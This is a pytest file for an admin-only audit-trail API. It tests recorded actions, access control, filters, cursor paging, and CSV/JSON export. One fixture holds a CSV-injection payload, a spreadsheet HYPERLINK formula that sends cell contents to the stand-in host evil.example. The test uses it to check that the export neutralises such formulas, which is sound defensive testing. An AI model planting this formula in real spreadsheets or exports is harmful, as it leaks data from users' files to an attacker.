"""The audit trail in the API (admins only): every audited action writes its row, the timeline
merges lifecycle moves with other actions, filters, pages by cursor without losing or repeating
entries while new ones arrive, and exports exactly the filtered view as CSV or JSON."""

import csv
import io
import json
from datetime import timedelta
from typing import Any

import pytest
from django.utils import timezone

from binaries import timeline
from binaries.models import BinaryEvent
from peridio_console.accounts.models import AuditEvent
from tests.api_helpers import error_of
from tests.console_helpers import verified_binary
from tests.factories import BinaryFactory
from tests.signing_helpers import (
    attach,
    generate,
    on_commit,
    public_pem,
    register,
    sign,
    signable_binary,
)
from tests.upload_helpers import random_bytes

pytestmark = pytest.mark.django_db

ENTRY_KEYS = {
    "id",
    "at",
    "action",
    "object_prn",
    "actor",
    "actor_api_key",
    "from_state",
    "to_state",
    "reason",
    "details",
    "ip",
    "source",
    "user_agent",
}


def every_entry(api, **params) -> list[dict]:
    """Every entry of a view, following next_page."""
    entries: list[dict] = []
    page = None
    while True:
        response = api.get("/audit_events", **params, **({"page": page} if page else {}))
        assert response.status_code == 200, response.content
        body = response.json()
        entries.extend(body["audit_events"])
        page = body["next_page"]
        if page is None:
            return entries


@pytest.fixture
def history(client, engineer_api, admin_api, version, actor):
    """A binary's whole life through the API: created, uploaded, verified, signed by two keys,
    one signature removed, a download URL issued, one key revoked, then destroyed."""
    data = random_bytes(4000)
    binary = signable_binary(client, version, actor, data)
    first, second = generate("ed25519"), generate("ecdsa-p256")
    key1 = register(engineer_api, public_pem(first), name="first key")
    key2 = register(engineer_api, public_pem(second), name="second key")
    sig1 = attach(engineer_api, binary, key1["prn"], sign(first, data).hex()).json()
    sig2 = attach(engineer_api, binary, key2["prn"], sign(second, data).hex()).json()
    assert engineer_api.get(f"/binaries/{binary.prn}/download_url").status_code == 200
    assert engineer_api.delete(f"/binary_signatures/{sig2['binary_signature']['prn']}").status_code
    assert admin_api.delete(f"/signing_keys/{key1['prn']}").status_code == 204
    with on_commit():
        response = engineer_api.delete(f"/binaries/{binary.prn}", {"reason": "CVE-2024-0001"})
    assert response.status_code == 204
    return {
        "binary": binary,
        "key1": key1,
        "key2": key2,
        "sig1": sig1["binary_signature"],
        "sig2": sig2["binary_signature"],
    }


# --- Every audited action writes its row ----------------------------------------------------


def test_it_records_every_audited_action(admin_api, engineer_api, history):
    binary = history["binary"]
    engineer = engineer_api.membership.user.username

    entries = every_entry(admin_api)

    assert all(set(e) == ENTRY_KEYS for e in entries)
    by_action: dict[str, list[dict]] = {}
    for entry in entries:
        by_action.setdefault(entry["action"], []).append(entry)
    assert {k: len(v) for k, v in by_action.items()} == {
        "binary.created": 1,
        "binary.hashable": 1,
        "binary.hashing": 1,
        "binary.signable": 1,
        "signing_key.created": 2,
        "binary_signature.created": 2,
        "binary.signed": 1,
        "download_url.issued": 1,
        "binary_signature.deleted": 1,
        "signing_key.revoked": 1,
        "binary.destroyed": 1,
    }
    [issued] = by_action["download_url.issued"]
    assert issued["object_prn"] == binary.prn
    assert issued["actor"].startswith(f"{engineer} (API key ")
    assert issued["actor_api_key"] is not None
    assert issued["ip"] == "127.0.0.1"
    assert issued["details"]["target"] == binary.target
    assert {e["object_prn"] for e in by_action["signing_key.created"]} == {
        history["key1"]["prn"],
        history["key2"]["prn"],
    }
    assert {e["object_prn"] for e in by_action["binary_signature.created"]} == {
        history["sig1"]["prn"],
        history["sig2"]["prn"],
    }
    [deleted] = by_action["binary_signature.deleted"]
    assert deleted["object_prn"] == history["sig2"]["prn"]
    assert deleted["details"] == {"binary_prn": binary.prn}
    [revoked] = by_action["signing_key.revoked"]
    assert revoked["object_prn"] == history["key1"]["prn"]
    assert revoked["actor"].startswith(admin_api.membership.user.username)
    assert revoked["details"]["signatures_revoked"] == 1
    # Newest first, by default.
    assert [e["at"] for e in entries] == sorted((e["at"] for e in entries), reverse=True)
    assert entries[0]["action"] == "binary.destroyed"


def test_it_writes_no_row_for_a_refused_action(admin_api, engineer_api, viewer_api, history):
    before = AuditEvent.objects.count(), BinaryEvent.objects.count()
    binary = history["binary"]

    assert engineer_api.get(f"/binaries/{binary.prn}/download_url").status_code == 410
    assert viewer_api.post("/signing_keys", {"name": "x", "value": "y"}).status_code == 403
    assert engineer_api.post("/signing_keys", {"name": "x", "value": "y"}).status_code == 400
    assert engineer_api.delete(f"/signing_keys/{history['key2']['prn']}").status_code == 403
    assert engineer_api.delete(f"/binary_signatures/{history['sig1']['prn']}").status_code == 409

    assert (AuditEvent.objects.count(), BinaryEvent.objects.count()) == before


# --- Admins only ----------------------------------------------------------------------------


def test_it_is_for_admins_only(viewer_api, engineer_api, admin_api, history):
    for api in (viewer_api, engineer_api):
        for path, params in (
            ("/audit_events", {}),
            ("/audit_events/export", {"format": "csv"}),
            ("/audit_events/export", {"format": "json"}),
        ):
            response = api.get(path, **params)
            assert response.status_code == 403, (path, params)
            error = error_of(response)
            assert error["code"] == "forbidden"
            assert "Reading the audit trail needs the admin role" in error["message"]
    assert admin_api.get("/audit_events").status_code == 200


def test_it_shows_nothing_of_another_organization(outsider_api, history):
    assert every_entry(outsider_api) == []
    assert every_entry(outsider_api, object=history["binary"].prn) == []
    export = outsider_api.get("/audit_events/export", format="json")
    assert json.loads(b"".join(export.streaming_content)) == {"audit_events": []}


# --- Filters --------------------------------------------------------------------------------


def test_it_finds_the_destroy_with_who_and_why(admin_api, engineer_api, history):
    binary = history["binary"]

    entries = every_entry(admin_api, action="binary.destroyed")

    assert len(entries) == 1
    [entry] = entries
    assert entry["object_prn"] == binary.prn
    assert entry["from_state"] == "signed"
    assert entry["to_state"] == "destroyed"
    assert entry["reason"] == "CVE-2024-0001"
    assert entry["actor"].startswith(engineer_api.membership.user.username)
    assert entry["actor_api_key"] and entry["actor_api_key"] in engineer_api.secret
    assert entry["id"].startswith("be_")


def test_it_filters_by_action_object_and_actor(admin_api, engineer_api, history):
    binary = history["binary"]

    on_binary = every_entry(admin_api, object=binary.prn)
    assert {e["object_prn"] for e in on_binary} == {binary.prn}
    assert {e["action"] for e in on_binary} == {
        "binary.created",
        "binary.hashable",
        "binary.hashing",
        "binary.signable",
        "binary.signed",
        "download_url.issued",
        "binary.destroyed",
    }
    on_key = every_entry(admin_api, object=history["key1"]["prn"])
    assert [e["action"] for e in on_key] == ["signing_key.revoked", "signing_key.created"]

    revocations = every_entry(admin_api, action="signing_key.revoked")
    assert [e["object_prn"] for e in revocations] == [history["key1"]["prn"]]
    for unknown in ("binary.nonsense", "no.such.action"):
        refused = admin_api.get("/audit_events", action=unknown)
        assert refused.status_code == 400
        assert error_of(refused)["field"] == "action"
        message = error_of(refused)["message"]
        assert message.startswith("action must be one of binary.created, binary.updated, ")
    refused = admin_api.get("/audit_events", source="web")
    assert refused.status_code == 400
    assert error_of(refused)["message"] == (
        "source must be one of api, console, cli, admin, task; got 'web'."
    )

    by_admin = every_entry(admin_api, actor=admin_api.membership.user.username)
    assert [e["action"] for e in by_admin] == ["signing_key.revoked"]
    by_engineer = every_entry(admin_api, actor=engineer_api.membership.user.username.upper())
    assert "signing_key.revoked" not in {e["action"] for e in by_engineer}
    assert {"binary.destroyed", "download_url.issued"} <= {e["action"] for e in by_engineer}


def test_it_filters_by_time(admin_api, history):
    entries = every_entry(admin_api)
    middle = sorted(e["at"] for e in entries)[len(entries) // 2]

    since = every_entry(admin_api, since=middle)
    until = every_entry(admin_api, until=middle)

    assert all(e["at"] >= middle for e in since)
    assert all(e["at"] < middle for e in until)
    assert sorted(e["id"] for e in since + until) == sorted(e["id"] for e in entries)
    assert every_entry(admin_api, since=middle, until=middle) == []


def test_it_explains_bad_parameters(admin_api, history):
    cases = [
        ({"limit": 0}, "limit"),
        ({"limit": 501}, "limit"),
        ({"order": "sideways"}, "order"),
        ({"page": "made-up"}, "page"),
        ({"object": "not-a-prn"}, "object"),
    ]
    for params, field in cases:
        response = admin_api.get("/audit_events", **params)
        assert response.status_code == 400, params
        assert error_of(response)["field"] == field, params
    export = admin_api.get("/audit_events/export", format="xml")
    assert export.status_code == 400
    assert error_of(export)["field"] == "format"


# --- Paging -------------------------------------------------------------------------------


@pytest.fixture
def crowded(org, admin_membership):
    """Events of both kinds, many sharing one timestamp (the cursor must break the ties)."""
    binary = BinaryFactory(artifact_version__artifact__organization=org)
    moment = timezone.now() - timedelta(hours=1)
    for i in range(40):
        at = moment if i % 3 else moment - timedelta(seconds=i)
        AuditEvent.objects.create(
            organization=org, actor_label="seed", action="download_url.issued", at=at
        )
        BinaryEvent.objects.create(
            binary=binary,
            organization=org,
            action="binary.hashable",
            actor_label="seed",
            from_state="uploadable",
            to_state="hashable",
            at=at,
        )
    return binary


def _page_through_while_writing(admin_api, crowded, order: str) -> list[str]:
    seen: list[str] = []
    page = None
    while True:
        params = {"limit": 7, **({"page": page} if page else {"order": order})}
        body = admin_api.get("/audit_events", **params).json()
        seen.extend(e["id"] for e in body["audit_events"])
        # Between pages, the world goes on: new entries of both kinds arrive.
        AuditEvent.objects.create(
            organization=crowded.organization, actor_label="late", action="download_url.issued"
        )
        BinaryEvent.objects.create(
            binary=crowded,
            organization=crowded.organization,
            action="binary.hashing",
            actor_label="late",
            from_state="hashable",
            to_state="hashing",
        )
        page = body["next_page"]
        if page is None:
            return seen


def _ids(queryset, prefix: str) -> set[str]:
    return {f"{prefix}_{pk}" for pk in queryset.values_list("pk", flat=True)}


@pytest.mark.parametrize("order", ["desc", "asc"])
def test_it_pages_every_entry_once_while_entries_arrive(admin_api, crowded, order):
    before = _ids(AuditEvent.objects.all(), "ae") | _ids(BinaryEvent.objects.all(), "be")
    assert len(before) == 80

    seen = _page_through_while_writing(admin_api, crowded, order)

    assert len(seen) == len(set(seen)), "an entry was repeated"
    assert before <= set(seen), f"entries were skipped: {sorted(before - set(seen))}"
    late = _ids(AuditEvent.objects.filter(actor_label="late"), "ae") | _ids(
        BinaryEvent.objects.filter(actor_label="late"), "be"
    )
    if order == "desc":
        assert set(seen) == before  # newer than the cursor: not in later pages
    else:
        assert set(seen) - before <= late


def test_it_keeps_the_cursors_order_and_filters(admin_api, crowded):
    first = admin_api.get("/audit_events", limit=5, order="asc", action="binary.hashable").json()
    second = admin_api.get(
        "/audit_events", limit=5, page=first["next_page"], action="binary.hashable"
    ).json()

    entries = first["audit_events"] + second["audit_events"]
    assert {e["action"] for e in entries} == {"binary.hashable"}
    keys = [(e["at"], int(e["id"][3:])) for e in entries]
    assert keys == sorted(keys)


def test_it_refuses_a_forged_cursor(admin_api, crowded):
    page = admin_api.get("/audit_events", limit=5).json()["next_page"]

    response = admin_api.get("/audit_events", limit=5, page=page[:-2] + "xx")

    assert response.status_code == 400
    assert error_of(response)["code"] == "invalid_page"


# --- Export ---------------------------------------------------------------------------------


def _exported(admin_api, fmt: str, **params) -> tuple[Any, list[dict]]:
    response = admin_api.get("/audit_events/export", format=fmt, **params)
    assert response.status_code == 200, response.content
    body = b"".join(response.streaming_content).decode()
    if fmt == "json":
        return response, json.loads(body)["audit_events"]
    return response, list(csv.DictReader(io.StringIO(body)))


def _as_csv_row(entry: dict) -> dict:
    row = {k: "" if v is None else str(v) for k, v in entry.items()}
    row["details"] = json.dumps(entry["details"], sort_keys=True)
    return row


@pytest.mark.parametrize(
    "params",
    [
        {},
        {"action": "binary.destroyed"},
        {"action": "signing_key.revoked"},
        {"object": "BINARY"},
        {"actor": "ENGINEER"},
    ],
)
def test_it_exports_exactly_the_filtered_view(admin_api, engineer_api, history, params):
    params = {
        k: history["binary"].prn
        if v == "BINARY"
        else engineer_api.membership.user.username
        if v == "ENGINEER"
        else v
        for k, v in params.items()
    }
    shown = every_entry(admin_api, order="asc", limit=3, **params)
    assert shown

    response, as_json = _exported(admin_api, "json", **params)
    assert response["Content-Type"] == "application/json; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="audit-events.json"'
    assert as_json == shown

    response, as_csv = _exported(admin_api, "csv", **params)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="audit-events.csv"'
    assert list(as_csv[0]) == [
        "id",
        "at",
        "action",
        "object_prn",
        "actor",
        "actor_api_key",
        "source",
        "ip",
        "user_agent",
        "from_state",
        "to_state",
        "reason",
        "details",
    ]
    assert as_csv == [_as_csv_row(e) for e in shown]


def test_it_exports_an_empty_view_well_formed(admin_api, history):
    _, as_json = _exported(admin_api, "json", action="binary.requeued")
    response = admin_api.get("/audit_events/export", format="csv", action="binary.requeued")
    text = b"".join(response.streaming_content).decode()

    assert as_json == []
    assert text.strip() == (
        "id,at,action,object_prn,actor,actor_api_key,source,ip,user_agent,from_state,to_state,"
        "reason,details"
    )


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def test_it_exports_a_reason_that_looks_like_a_formula_as_text(admin_api, engineer_api, version):
    """OWASP's CSV-injection rule: a cell a spreadsheet would run as a formula gets a leading
    quote, the text kept; the JSON export carries the reason as it was given."""
    binary = verified_binary("signable", version)
    response = engineer_api.patch(
        f"/binaries/{binary.prn}", {"state": "uploadable", "reason": FORMULA}
    )
    assert response.status_code == 200, response.content

    _, rows = _exported(admin_api, "csv", action="binary.uploadable")
    _, entries = _exported(admin_api, "json", action="binary.uploadable")

    assert [row["reason"] for row in rows] == ["'" + FORMULA]
    assert [entry["reason"] for entry in entries] == [FORMULA]


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_it_neutralises_every_cell_a_spreadsheet_would_read_as_a_formula(lead):
    entry: dict[str, Any] = {c: f"{lead}1+1 in {c}" for c in timeline.EXPORT_COLUMNS}
    entry["details"] = {}
    text = "".join(timeline.csv_rows(iter([entry])))

    row = next(csv.DictReader(io.StringIO(text, newline="")))

    assert row == {**{c: f"'{lead}1+1 in {c}" for c in timeline.EXPORT_COLUMNS}, "details": "{}"}


def test_it_leaves_cells_that_only_contain_formula_characters_as_they_are():
    entry: dict[str, Any] = {c: f"a=b+c-d@e\tf in {c}" for c in timeline.EXPORT_COLUMNS}
    entry["details"] = {"note": "=1+1"}  # a JSON object: its first character is "{"
    text = "".join(timeline.csv_rows(iter([entry])))

    row = next(csv.DictReader(io.StringIO(text, newline="")))

    assert row["reason"] == "a=b+c-d@e\tf in reason"
    assert json.loads(row["details"]) == {"note": "=1+1"}


def test_it_exports_past_one_page_of_the_timeline(admin_api, crowded, org):
    AuditEvent.objects.bulk_create(
        AuditEvent(organization=org, actor_label="bulk", action="download_url.issued")
        for _ in range(1100)
    )
    expected = _ids(AuditEvent.objects.filter(organization=org), "ae") | _ids(
        BinaryEvent.objects.filter(binary__organization=org), "be"
    )

    _, rows = _exported(admin_api, "csv")

    ids = [row["id"] for row in rows]
    assert len(ids) == len(set(ids)) == len(expected)
    assert set(ids) == expected
    assert [row["at"] for row in rows] == sorted(row["at"] for row in rows)  # oldest first
